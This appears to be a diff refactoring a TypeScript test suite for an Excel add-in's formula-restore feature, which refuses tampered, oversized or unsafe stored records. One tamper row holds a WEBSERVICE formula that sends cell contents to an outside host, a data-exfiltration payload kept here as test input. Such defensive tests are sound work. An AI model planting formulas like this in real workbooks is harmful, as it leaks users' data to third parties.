@@ -9,32 +9,28 @@ import { OWN_SHEETS } from "../../src/core/own-sheets";
 import { convertFormula } from "../../src/core/portable/convert";
 import { originalsCount } from "../../src/core/portable/originals";
 import { makePortable, restoreFormulas } from "../../src/excel/portable";
-import { FakeWorkbook, installFakeExcel, type FakeExcelHandle } from "../support/fake-excel";
+import { useFakeExcel } from "../support/fake-excel";
 
 const ORIGINALS = OWN_SHEETS.originals.base;
 const LOOKUP = OWN_SHEETS.lookup.base;
 
-let wb: FakeWorkbook;
-let excel: FakeExcelHandle;
-
-beforeEach(async () => {
-  wb = new FakeWorkbook(["Model"]);
+const fake = useFakeExcel(["Model"], (wb) => {
   const model = wb.sheet("Model");
   model.setCell("A1", '=IOMT.VALUE("USA",2026)');
   model.setCell("A2", "=IOMT.CAGR(28454,79107,5)");
   // cells that never held an IOMT formula
   model.setCells("B1", [["=1+1"], ["=2+2"], ["=3+3"], ["=4+4"], ["=5+5"], ["=6+6"]]);
-  excel = installFakeExcel(wb);
+});
+beforeEach(async () => {
   await makePortable(INDEX, "workbook");
 });
-afterEach(() => excel.uninstall());
 
 const ctx = { tables: [], dataSheet: LOOKUP, file: false };
 const portableOf = (f: string) => convertFormula(f, INDEX, ctx).formula;
 
 /** Appends records to the originals sheet as a sender would (text cells), and sets its count. */
 function tamper(rows: string[][]): void {
-  const sheet = wb.sheet(ORIGINALS);
+  const sheet = fake.wb.sheet(ORIGINALS);
   const count = Number(sheet.cell("G1").value);
   sheet.setCells(
     `A${count + 2}`,
@@ -44,7 +40,7 @@ function tamper(rows: string[][]): void {
 }
 
 test("refuses WEBSERVICE, HYPERLINK and DDE originals, originals for cells that never held IOMT, and the add-in's own sheets", async () => {
-  const model = wb.sheet("Model");
+  const model = fake.wb.sheet("Model");
   const portableA1 = model.cell("A1").formula;
   tamper([
     ["Model", "B1", "excel", '=WEBSERVICE("https://example.org/?"&A1)', "=1+1"],
@@ -62,7 +58,7 @@ test("refuses WEBSERVICE, HYPERLINK and DDE originals, originals for cells that 
     ["Model", "ZZZZ99999999", "excel", '=IOMT.VALUE("USA")', "=1+1"],
     ["Gone", "A1", "excel", '=IOMT.VALUE("USA")', portableOf('=IOMT.VALUE("USA")')],
   ]);
-  const lookupBefore = JSON.stringify([...wb.sheet(LOOKUP).cells]);
+  const lookupBefore = JSON.stringify([...fake.wb.sheet(LOOKUP).cells]);
   const result = await restoreFormulas(INDEX);
 
   expect(result.restored).toBe(2);
@@ -71,7 +67,7 @@ test("refuses WEBSERVICE, HYPERLINK and DDE originals, originals for cells that 
   expect(portableA1).not.toBe(model.cell("A1").formula);
   for (const [i, cell] of ["B1", "B2", "B3", "B4", "B5", "B6"].entries())
     expect(model.cell(cell).formula).toBe(`=${i + 1}+${i + 1}`);
-  expect(JSON.stringify([...wb.sheet(LOOKUP).cells])).toBe(lookupBefore);
+  expect(JSON.stringify([...fake.wb.sheet(LOOKUP).cells])).toBe(lookupBefore);
 
   const why = (cell: string, sheet = "Model") =>
     [...result.refused, ...result.skipped].find((r) => r.sheet === sheet && r.cell === cell)?.reason;
@@ -90,12 +86,12 @@ test("refuses WEBSERVICE, HYPERLINK and DDE originals, originals for cells that 
 });
 
 test("a count that is not a whole number within a worksheet's rows (1e300) is refused at once, and nothing is written", async () => {
-  wb.sheet(ORIGINALS).setCell("G1", 1e300);
-  const before = JSON.stringify(wb.sheets.map((s) => [...s.cells]));
+  fake.wb.sheet(ORIGINALS).setCell("G1", 1e300);
+  const before = JSON.stringify(fake.wb.sheets.map((s) => [...s.cells]));
   const result = await restoreFormulas(INDEX);
   expect(result.restored).toBe(0);
   expect(result.problem).toMatch(/count of records \(1e\+300\) is not a whole number from 0 to 1048575/);
-  expect(JSON.stringify(wb.sheets.map((s) => [...s.cells]))).toBe(before);
+  expect(JSON.stringify(fake.wb.sheets.map((s) => [...s.cells]))).toBe(before);
   for (const bad of [1e300, Infinity, -1, 2.5, 1048576, "12x", "9".repeat(400)])
     expect(originalsCount(["Sheet", "Cell", "Form", "Original", "Portable", "Records", bad]).problem).toBeDefined();
   expect(originalsCount(["Sheet", "Cell", "Form", "Original", "Portable", "Records", 1048575])).toEqual({
@@ -104,13 +100,13 @@ test("a count that is not a whole number within a worksheet's rows (1e300) is re
 });
 
 test("make portable over an originals sheet whose count does not validate says so and keeps this run's originals", async () => {
-  wb.sheet(ORIGINALS).setCell("G1", "9".repeat(400));
-  wb.sheet("Model").setCell("C1", '=IOMT.RATE("NA")');
+  fake.wb.sheet(ORIGINALS).setCell("G1", "9".repeat(400));
+  fake.wb.sheet("Model").setCell("C1", '=IOMT.RATE("NA")');
   const result = await makePortable(INDEX, "workbook");
   expect(result.keptProblem).toMatch(/count of records .* is not a whole number/);
   expect(result.converted.map((c) => c.cell)).toEqual(["C1"]);
-  expect(wb.sheet(ORIGINALS).cell("G1").value).toBe(1);
+  expect(fake.wb.sheet(ORIGINALS).cell("G1").value).toBe(1);
   const back = await restoreFormulas(INDEX);
   expect(back.restored).toBe(1);
-  expect(wb.sheet("Model").cell("C1").formula).toBe('=IOMT.RATE("NA")');
+  expect(fake.wb.sheet("Model").cell("C1").formula).toBe('=IOMT.RATE("NA")');
 });
